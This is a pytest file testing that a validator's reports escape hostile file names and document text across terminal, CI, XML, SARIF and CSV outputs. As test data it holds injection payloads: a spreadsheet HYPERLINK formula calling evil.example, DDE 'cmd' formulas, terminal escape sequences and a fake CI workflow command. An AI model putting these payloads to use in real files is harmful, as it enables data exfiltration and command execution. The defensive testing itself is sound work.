"""What a report lets through of file names and text (audit I31-I33, O1, O2, O6-O9): every output
can be trusted by what reads it (a terminal, a CI job log, an XML or JSON parser, a spreadsheet)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import unquote_to_bytes
from xml.etree import ElementTree as ET

import jsonschema
import pytest
from click.testing import CliRunner
from conftest import ROOT, SAMPLES, corpus_dir
from hypothesis import given, settings
from hypothesis import strategies as st

from validator.cli import main
from validator.diagnostics import Diagnostic, Severity
from validator.document import Document
from validator.report.fingerprint import content_fingerprint, occurrences
from validator.report.formatters import FileReport, FormatContext, formatters
from validator.report.formatters.escape import printable, uri_reference
from validator.report.formatters.text_format import render_file
from validator.report.scdl import FIELDS, TEXT_COLUMNS, neutralise

BAD = SAMPLES / "non_conformes" / "presents-annonces-faux.txt"
SARIF_SCHEMA = corpus_dir().parent / "schemas" / "sarif-schema-2.1.0.json"
FORMATS = ["text", "json", "sarif", "github", "gitlab", "junit", "rdjson"]
# What a terminal or a job log would obey: C0 and C1 controls, DEL, bidi overrides and isolates.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
# The file names of the audit: a workflow command after a newline (I31), a Latin-1 name that is
# not UTF-8 (I32), ESC and OSC sequences with BEL (I33), URI delimiters (O7).
INJECTED = b"x\n::error title=INJECTED::fake annotation from a file name\n.txt"
LATIN1 = b"d\xe9lib\xe9ration.txt"
ESCAPES = b"e\x1b]0;pwned\x07\x1b[2J\xc2\x9b31m\xe2\x80\xaeevil.txt"
URI_DELIMITERS = b"acte #1 (copie) %41?x.txt"


def run(*args: str, cwd: Path | None = None):
    old = os.getcwd()
    os.chdir(cwd or old)
    try:
        return CliRunner().invoke(main, list(args))
    finally:
        os.chdir(old)


def named(folder: Path, name: bytes, text: bytes | None = None) -> Path:
    """A copy of the act with a one-finding report under a file name of raw bytes."""
    folder.mkdir(exist_ok=True)
    path = Path(os.fsdecode(os.path.join(os.fsencode(folder), name)))
    path.write_bytes(BAD.read_bytes() if text is None else text)
    return path


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """Names that are UTF-8 (the Latin-1 one has tests of its own, as it failed on its own)."""
    folder = tmp_path / "d"
    for name in (INJECTED, ESCAPES, URI_DELIMITERS):
        named(folder, name)
    return folder


def report_with(text: str, message: str, path: str = "acte.txt", line: int = 1, column: int = 1, length: int = 1, severity: Severity = Severity.ERROR) -> FileReport:
    doc = Document(text)
    start = doc.offset(line, column)
    d = Diagnostic(line, column, line, column + length, "attendance-count", message, severity, start=start, end=start + length)
    return FileReport(path, (d,), text=text)


# --- Terminal and job log (I31, I33, O1, O9) ---------------------------------------------------------


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_a_newline_in_a_file_name_starts_no_workflow_command(hostile: Path, fmt: str) -> None:
    result = run("check", "--format", fmt, str(hostile))
    assert result.exit_code == 1, result.output
    lines = result.stdout.splitlines()
    assert not any(line.startswith("::error title=INJECTED") for line in lines)
    shown = "x\\n::error title=INJECTED::fake annotation from a file name\\n.txt"
    assert any((shown if fmt == "text" else shown.replace(":", "%3A")) in line for line in lines)
    if fmt == "github":
        assert len(lines) == 3 and all(line.startswith("::error file=") for line in lines)


def test_the_text_beside_output_escapes_names_too(hostile: Path, tmp_path: Path) -> None:
    result = run("check", "--format", "json", "--output", str(tmp_path / "r.json"), str(hostile))
    assert result.exit_code == 1 and "INJECTED" in result.stdout, result.output
    assert not any(line.startswith("::error title=INJECTED") for line in result.stdout.splitlines())
    assert not RAW_CONTROL.search(result.stdout)


@pytest.mark.parametrize("fmt", ["text", "github", "junit"])
def test_terminal_escapes_in_names_never_reach_the_output(hostile: Path, fmt: str) -> None:
    result = run("check", "--format", fmt, str(hostile))
    assert result.exit_code == 1, result.output
    out = result.stdout
    assert not RAW_CONTROL.search(out.replace("\n", ""))
    assert "e\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\u202eevil.txt" in out


def test_controls_in_messages_and_snippets_are_shown_escaped() -> None:
    text = "Présents : 9 \x1b]0;pwned\x07 \x1b[2J\x1b[8m \x01\x9b \u202e fin\n"
    report = report_with(text, "nom « Amis\x1b[1;32m du\x1b]0;x\x07 »", column=14, length=20)
    for colour in (False, True):
        lines = render_file(report, colour)
        shown = "\n".join(lines)
        # Our colours only: the text's ESC are escaped.
        assert not RAW_CONTROL.search(shown.replace("\x1b[1;31m", "").replace("\x1b[0m", "").replace("\n", ""))
    header, source, underline = render_file(report)
    assert header == "acte.txt:1:14: erreur [attendance-count] nom « Amis\\x1b[1;32m du\\x1b]0;x\\x07 »"
    assert source == "    1 | Présents : 9 \\x1b]0;pwned\\x07 \\x1b[2J\\x1b[8m \\x01\\x9b \\u202e fin"
    # The caret stands under the escaped text it points at.
    caret = underline.index("^") - len("    1 | ")
    assert source[len("    1 | ") + caret :].startswith("\\x1b]0;pwned")


def test_an_unreadable_file_name_and_error_are_escaped() -> None:
    (line,) = render_file(FileReport("a\n::warning::b\x1b[2J.txt", error="illisible\x07"))
    assert line == "a\\n::warning::b\\x1b[2J.txt: erreur : illisible\\x07"


def act_with_escapes(folder: Path) -> Path:
    """The audit's ctrl documents: OSC, clear screen and conceal on the reported line."""
    text = BAD.read_text(encoding="utf-8").replace("Présents : 9\n", "Présents : 9 \x1b]0;pwned\x07\x1b[2J\x1b[8m\n", 1)
    return named(folder, b"ctrl.txt", text.encode())


def test_color_on_a_pipe_keeps_our_colours_and_escapes_the_texts(tmp_path: Path) -> None:
    act = act_with_escapes(tmp_path)
    done = subprocess.run([sys.executable, "-m", "validator", "check", "--color", str(act)], capture_output=True, cwd=ROOT, timeout=60, check=False)
    out = done.stdout.decode("utf-8")
    assert "\x1b[1;31merreur\x1b[0m" in out  # ours, kept although stdout is a pipe (O9)
    assert "Présents : 9 \\x1b]0;pwned\\x07\\x1b[2J\\x1b[8m" in out
    assert "\x1b]" not in out and "\x1b[2J" not in out and "\x07" not in out
    plain = subprocess.run([sys.executable, "-m", "validator", "check", str(act)], capture_output=True, cwd=ROOT, timeout=60, check=False)
    assert "\x1b" not in plain.stdout.decode("utf-8")


def test_stderr_messages_escape_names(tmp_path: Path) -> None:
    result = run("check", "--output", str(tmp_path / "a\x1b[2J\n::error::x.json"), str(tmp_path / "absent\x1b]0;t\x07"))
    assert "\x1b" not in result.output and "\x07" not in result.output


# --- XML (O2, I33) -------------------------------------------------------------------------------------

FORBIDDEN_IN_XML = "".join(map(chr, [*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20)])) + "\ud800\udce9\udfff\ufffe\uffff"


def test_junit_is_well_formed_whatever_the_text_and_names_hold() -> None:
    text = f"Présents : 9 {FORBIDDEN_IN_XML}\n"
    reports = [
        report_with(text, f"message {FORBIDDEN_IN_XML}", path=f"a{FORBIDDEN_IN_XML}.txt"),
        FileReport(f"b{FORBIDDEN_IN_XML}.txt", error=f"illisible {FORBIDDEN_IN_XML}"),
        report_with(text, f"info {FORBIDDEN_IN_XML}", path="c.txt", severity=Severity.INFO),  # system-out
    ]
    out = formatters()["junit"](reports, FormatContext())
    root = ET.fromstring(out.encode("utf-8"))  # expat: rejects any character XML 1.0 forbids
    failure = root.find("testsuite/testcase/failure")
    assert failure is not None and failure.get("message", "").startswith("message \\x00\\x01")
    assert "\\ud800\\xe9\\udfff\\ufffe\\uffff" in (failure.get("message") or "")


def test_junit_of_the_audit_documents_parses(tmp_path: Path) -> None:
    act = act_with_escapes(tmp_path / "docs")
    named(tmp_path / "docs", ESCAPES)
    ET.fromstring(run("check", "--format", "junit", str(act.parent)).stdout.encode("utf-8"))


# --- SARIF URIs (O7) ----------------------------------------------------------------------------------

# RFC 3986: a URI reference holds only unreserved and reserved characters and %XX escapes.
URI_CHARS = re.compile(r"(?:[A-Za-z0-9\-._~!$&'()*+,;=:@/?#]|%[0-9A-F]{2})*")


def test_sarif_uris_are_percent_encoded_relative_references(hostile: Path) -> None:
    (hostile / "délibération 2024.txt").write_bytes(BAD.read_bytes())
    named(hostile, LATIN1)
    sarif = json.loads(run("check", "--format", "sarif", "d", cwd=hostile.parent).stdout)
    jsonschema.Draft4Validator(json.loads(SARIF_SCHEMA.read_text(encoding="utf-8"))).validate(sarif)
    uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in sarif["runs"][0]["results"]}
    assert all(URI_CHARS.fullmatch(u) and "#" not in u and "?" not in u and not u.startswith("/") for u in uris)
    # Each decodes to the file's bytes, as a SARIF reader resolves it against the checked folder.
    assert {unquote_to_bytes(u) for u in uris} == {b"d/" + n for n in (INJECTED, LATIN1, ESCAPES, URI_DELIMITERS, "délibération 2024.txt".encode())}
    assert "d/acte%20%231%20%28copie%29%20%2541%3Fx.txt" in uris and "d/d%E9lib%E9ration.txt" in uris


def test_a_path_outside_the_working_directory_is_a_file_uri(tmp_path: Path) -> None:
    assert uri_reference("/srv/actes/acte #2.txt") == "file:///srv/actes/acte%20%232.txt"
    assert uri_reference("./sous dossier/a.txt") == "sous%20dossier/a.txt"


# --- Snippet lines (O8) -------------------------------------------------------------------------------


@pytest.mark.parametrize("brk", ["\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\x0b"])
def test_snippets_count_lines_as_the_document_does(brk: str) -> None:
    text = f"ligne un\n{brk}\nligne trois {brk} suite\nPrésents : 9\n"
    report = report_with(text, "m", line=4, column=1, length=12)
    header, source, underline = render_file(report)
    assert header.startswith("acte.txt:4:1:") and source == "    4 | Présents : 9"
    assert underline.endswith("| " + "^" * 12)
    (_, shown, _) = render_file(report_with(text, "m", line=3, column=1, length=5))
    assert shown == f"    3 | ligne trois {printable(brk)} suite"


def test_a_pdftotext_page_break_keeps_the_snippet_on_its_line(tmp_path: Path) -> None:
    # pdftotext ends each page with a form feed, here on an empty line before the reported one.
    text = BAD.read_text(encoding="utf-8").replace("Présents : 9\n", "\f\nPrésents : 9\n", 1)
    act = named(tmp_path, b"formfeed.txt", text.encode())
    out = run("check", str(act)).stdout.splitlines()
    at = next(i for i, line in enumerate(out) if "[attendance-count]" in line)
    assert out[at].startswith(f"{act}:11:1:") and out[at + 1] == "   11 | Présents : 9"


# --- File names that are not UTF-8 (I32) --------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_latin1_file_name_is_reported_in_every_format(tmp_path: Path, fmt: str) -> None:
    named(tmp_path / "d", LATIN1)
    # CliRunner's stdout is strict UTF-8, as a terminal under a fr_FR.UTF-8 locale is.
    result = run("check", "--format", fmt, "d", cwd=tmp_path)
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    out = result.stdout
    name = os.fsdecode(b"d/" + LATIN1)
    if fmt in ("text", "github", "junit"):
        assert "d/d\\xe9lib\\xe9ration.txt" in out  # the bytes shown as `ls -b` does
    if fmt == "junit":
        ET.fromstring(out.encode("utf-8"))
    # JSON keeps the name exactly: its undecodable bytes as \udcXX escapes, which read back as the
    # name Python gives the file; SARIF percent-encodes the bytes.
    paths = {
        "json": lambda data: data["files"][0]["path"],
        "gitlab": lambda data: data[0]["location"]["path"],
        "rdjson": lambda data: data["diagnostics"][0]["location"]["path"],
        "sarif": lambda data: data["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
    }
    if fmt in paths:
        assert paths[fmt](json.loads(out)) == ("d/d%E9lib%E9ration.txt" if fmt == "sarif" else name)


def test_a_latin1_file_name_in_output_and_baseline_files(tmp_path: Path) -> None:
    named(tmp_path / "d", LATIN1)
    for fmt in FORMATS:
        result = run("check", "--format", fmt, "--output", f"r.{fmt}", "d", cwd=tmp_path)
        assert result.exit_code == 1 and "Traceback" not in result.output, (fmt, result.output)
        (tmp_path / f"r.{fmt}").read_bytes().decode("utf-8")  # a UTF-8 file, whatever the name
    result = run("check", "--write-baseline", "bl.json", "d", cwd=tmp_path)
    assert result.exit_code == 1 and "base de référence écrite" in result.output, result.output
    (finding,) = json.loads((tmp_path / "bl.json").read_text(encoding="utf-8"))["findings"]
    assert finding["path"] == os.fsdecode(b"d/" + LATIN1)
    # The baseline written for that name matches it again: nothing is new.
    again = run("check", "--baseline", "bl.json", "d", cwd=tmp_path)
    assert again.exit_code == 0 and "aucun problème" in again.output, again.output


def test_a_latin1_file_name_in_extract(tmp_path: Path) -> None:
    named(tmp_path / "d", LATIN1)
    data = json.loads(run("extract", "d/" + os.fsdecode(LATIN1), cwd=tmp_path).stdout)
    assert data["path"] == os.fsdecode(b"d/" + LATIN1)
    result = run("extract", "--format", "scdl", "d", cwd=tmp_path)
    assert "d/d\\xe9lib\\xe9ration.txt : avertissement" in result.output


# --- SCDL formulas (O6) -------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'
ACT = (ROOT / "samples" / "conformes" / "commune-conseil-municipal.txt").read_text(encoding="utf-8")


@pytest.mark.parametrize("title", [HYPERLINK, "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"])
def test_scdl_neutralises_formulas_in_text_cells(tmp_path: Path, title: str) -> None:
    objet = re.search(r"(?m)^Objet : (.*)$", ACT)
    assert objet is not None
    act = tmp_path / "acte.txt"
    act.write_text(ACT.replace(objet.group(0), f"Objet : {title} subvention"), encoding="utf-8")
    result = run("extract", "--format", "scdl", "--collectivite", HYPERLINK, "--siret", "21340172200017", "--validate", str(act))
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["DELIB_OBJET"] == f"'{title} subvention" and row["COLL_NOM"] == "'" + HYPERLINK
    # The other columns keep their values for the schema: dates, integers, codes, the SIRET.
    assert row["COLL_SIRET"] == "21340172200017" and re.fullmatch(r"\d{4}-\d\d-\d\d", row["DELIB_DATE"])
    assert result.exit_code == 0 and "1 ligne(s) conforme(s) au schéma" in result.output, result.output


def test_scdl_leaves_ordinary_values_and_non_text_columns_alone() -> None:
    assert neutralise("Attribution d'une subvention") == "Attribution d'une subvention"
    assert neutralise("") == ""
    assert [neutralise(v) for v in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", "\0=1")] == ["'=1", "'+1", "'-1", "'@a", "'\t=1", "'\r=1", "'\0=1"]
    assert set(TEXT_COLUMNS) <= set(FIELDS)
    assert not {"COLL_SIRET", "DELIB_DATE", "PREF_DATE", "VOTE_POUR", "DELIB_MATIERE_CODE", "PREF_ID", "DELIB_URL"} & set(TEXT_COLUMNS)


def test_scdl_docs_say_what_is_neutralised() -> None:
    doc = (ROOT / "docs" / "scdl.md").read_text(encoding="utf-8")
    assert "apostrophe" in doc and all(name in doc for name in TEXT_COLUMNS)



# --- Fingerprints of texts whose lines end in \r (found with O8) ------------------------------------


def old_fingerprint_line(text: str, start: int, end: int) -> str:
    """The line a fingerprint hashed before lone \\r counted as a line end."""
    line_start = text.rfind("\n", 0, start) + 1
    line_end = text.find("\n", end)
    return text[line_start : line_end if line_end >= 0 else len(text)]


@settings(max_examples=300)
@given(st.text(alphabet="ab é\n", max_size=60), st.booleans(), st.integers(0, 80), st.integers(0, 20))
def test_fingerprints_of_lf_and_crlf_texts_are_unchanged(text: str, crlf: bool, start: int, length: int) -> None:
    if crlf:
        text = text.replace("\n", "\r\n")
    start = min(start, len(text))
    end = min(start + length, len(text))
    d = Diagnostic(1, 1, 1, 1, "r", "m", Severity.INFO, start=start, end=end)
    old = " ".join(old_fingerprint_line(text, start, end).split()) + "\0" + " ".join(text[start:end].split())
    assert content_fingerprint(d, text) == hashlib.sha256(f"r\0{old}".encode()).hexdigest()[:20]


def cr_findings(lines: int) -> tuple[str, list[Diagnostic]]:
    row = "Vu la délibération n° 12 du 12 mars 2021 ;"
    text = "\r".join(f"{row} {i}" for i in range(lines)) + "\r"
    doc = Document(text)
    found = []
    for line in range(1, lines + 1):
        start = doc.offset(line, 1)
        found.append(Diagnostic(line, 1, line, 3, "r", "m", Severity.INFO, start=start, end=start + 2))
    return text, found


def test_a_text_whose_lines_end_in_cr_is_fingerprinted_line_by_line_in_linear_time() -> None:
    text, found = cr_findings(50)
    as_lf = [fp for _, fp, _ in occurrences(found, text.replace("\r", "\n"))]
    assert [fp for _, fp, _ in occurrences(found, text)] == as_lf and len(set(as_lf)) == 50

    def timed(lines: int) -> float:
        text, found = cr_findings(lines)
        best = []
        for _ in range(3):
            began = time.perf_counter()
            list(occurrences(found, text))
            best.append(time.perf_counter() - began)
        return min(best)

    # Each finding hashed the whole text before: 10x the lines took 100x the time. The sizes keep
    # the small run above ~50 ms, so that a loaded machine's noise does not decide.
    assert timed(100_000) / timed(10_000) < 30
